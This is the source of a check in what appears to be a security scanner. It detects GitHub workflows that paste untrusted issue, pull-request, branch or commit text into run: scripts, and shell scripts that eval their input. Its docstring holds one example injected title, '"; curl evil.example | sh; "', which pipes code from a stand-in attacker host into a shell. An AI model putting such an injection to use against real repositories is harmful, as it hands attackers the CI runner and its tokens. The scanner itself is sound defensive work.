"""Workflows that paste what strangers write into a shell script, and scripts that evaluate what they are called with."""

from __future__ import annotations

import re
from collections.abc import Iterator

from aisecops.checks.configuration.scripts import SCRIPTS, Script, script_lines
from aisecops.checks.references import COMMAND_INJECTION, COMMAND_INTERPRETER
from aisecops.core.check import Context, check
from aisecops.core.finding import Fix, Location, Weakness
from aisecops.core.taxonomy import Confidence, Severity, Stage, Threat
from aisecops.core.text import inert

_WORKFLOWS = r"(^|/)(\.github/workflows/[^/]+|action)\.ya?ml$"
_FROM_STRANGERS = (
    r"\$\{\{[^}]*\b(github\.(head_ref|event\.(((issue|pull_request|comment|review|review_comment|discussion|discussion_comment)\.(title|body)"
    r"|pull_request\.head\.(ref|label|repo\.default_branch))|(commits\b[^}]*|head_commit)\.(message|author\.(name|email)))))\b[^}]*\}\}"
)
_TRUSTED = r"^\$\{\{\s*(toJSON|contains|startsWith|endsWith|format)\("
_SHELL = re.compile(r"(?:\.(?:sh|bash|zsh|ksh|cgi)|/(?:docker-)?entrypoint)$")
_EVALUATES = re.compile(r"(?:^|[;&|]\s*|\bthen\s+|\bdo\s+|\bsudo\s+)(?:eval|(?:/bin/)?(?:ba|z|k|da)?sh\s+-\w*c)\s+(?!--)(.*)")
_PARAMETER = re.compile(r"\$(?:\{)?(?:[1-9*@]|QUERY_STRING\b|HTTP_[A-Z_]+\b)")
_READ = re.compile(r"\bread\s+(?:-\w+\s+(?:\"[^\"]*\"\s+|'[^']*'\s+)?)*([A-Za-z_]\w*)\s*(?:$|[;&|])")
_FUNCTION = re.compile(r"^\s*(?:function\s+[\w-]+\s*(?:\(\))?|[\w-]+\s*\(\))\s*\{?")
_SCRIPT = r"^(\s*)(?:-\s+)?(?:run|script):\s*(\S.*)$"


@check(
    id="configuration/shell-injection",
    title="Workflows paste no stranger's text into a script",
    inputs=SCRIPTS,
    stage=Stage.CODE,
    threat=Threat.SUPPLY_CHAIN,
    categories=("shell-injection",),
    refs=(COMMAND_INJECTION, COMMAND_INTERPRETER),
)
def shell_injection(file: Script, ctx: Context) -> Iterator[Weakness]:
    """Find GitHub workflows whose scripts hold what anybody can write, and scripts that evaluate what they are given.

    What it finds
        ``${{ github.event.issue.title }}``, bodies of comments and pull requests, ``github.head_ref``, messages of commits, in ``run:`` (and in ``script:`` of
        ``actions/github-script``); and shell scripts that ``eval`` (or hand to ``sh -c``) what they are called with, what they ``read``, or what a web server passes on.

    Why it matters
        The text is put in before the shell reads the script: an issue called ``"; curl evil.example | sh; "`` runs on the runner, with its tokens and keys. In August
        2025 the build system Nx was taken over by the title of a pull request; in December 2024 ultralytics released a miner by the name of a branch.

    Example
        ``run: python review.py --title "${{ github.event.pull_request.title }}"``

    How to fix
        Hand it over as a variable: ``env: {TITLE: "${{ github.event.pull_request.title }}"}`` and ``"$TITLE"`` in the script.

    Limits
        Functions of a script that evaluate their own parameters are left alone: the script calls them. Expressions in scripts of other build servers, and values
        that a step before hands on (``steps.x.outputs``), are not followed. What people with write access type in (``inputs``) is passed over.

    References
        CWE-78; CWE-77; GitHub Security Lab: Untrusted input in workflows.
    """
    yield from _evaluated(file)
    if re.search(_WORKFLOWS, file.asset.path) is None or "${{" not in file.text.content:
        return
    found: dict[str, list[Location]] = {}
    for number, line in _script_lines(file.text.content):
        for match in re.finditer(_FROM_STRANGERS, line):
            if not re.match(_TRUSTED, match[0]):
                found.setdefault(match[1], []).append(Location(path=file.asset.path, line=number, column=match.start() + 1))
    for expression, places in found.items():
        yield Weakness(
            category="shell-injection",
            identity=("workflow", expression),
            title="A workflow pastes a stranger's text into a script",
            message=f"{inert(expression, 80)} becomes part of the script before the shell reads it: whoever writes it runs commands on the runner.",
            severity=Severity.HIGH,
            confidence=Confidence.HIGH,
            locations=tuple(places[:100]),
            root_cause="shell-injection: workflow",
            fix=Fix('Set it as a variable under env: and write "$NAME" in the script.'),
        )


def _evaluated(file: Script) -> Iterator[Weakness]:
    """Yield where a shell script evaluates what it is called with, or what it reads."""
    content = file.text.content
    if (getattr(file, "language", "") != "shell" and not _SHELL.search(file.asset.path)) or ("eval" not in content and "sh -" not in content):
        return
    lines = script_lines(file)
    read = {name for _, line in lines for name in _READ.findall(line)}
    inside = False
    for number, line in lines:
        inside = (inside or _FUNCTION.match(line) is not None) and not line.startswith("}") and not line.rstrip().endswith("; }")
        found = _EVALUATES.search(line)
        if found is None or found[1].startswith("'"):
            continue
        parameter = not inside and _PARAMETER.search(found[1]) is not None
        if parameter or any(re.search(rf"\$\{{?{name}\b", found[1]) for name in read):
            yield Weakness(
                category="shell-injection",
                identity=("evaluated", inert(line.strip(), 80)),
                title="A script evaluates what it is given",
                message="What the script is called with, or reads, is read by the shell a second time: `;`, `$(...)` and the like in it are commands.",
                severity=Severity.MEDIUM,
                confidence=Confidence.MEDIUM,
                locations=(Location(path=file.asset.path, line=number, column=found.start() + 1),),
                root_cause="shell-injection: evaluated",
                fix=Fix('Run the program by name with "$@" as its arguments; choose among commands with case.'),
            )


def _script_lines(content: str) -> Iterator[tuple[int, str]]:
    """Yield the lines of scripts, with their numbers: what stands behind ``run:``, and what is indented below it."""
    inside = -1
    for number, line in enumerate(content.split("\n"), 1):
        indent = len(line) - len(line.lstrip())
        if inside >= 0 and line.strip() and indent <= inside:
            inside = -1
        if (match := re.match(_SCRIPT, line)) is not None and inside < 0:
            inside = len(match[1]) + (2 if line.lstrip().startswith("-") else 0)
            yield number, line
        elif inside >= 0:
            yield number, line
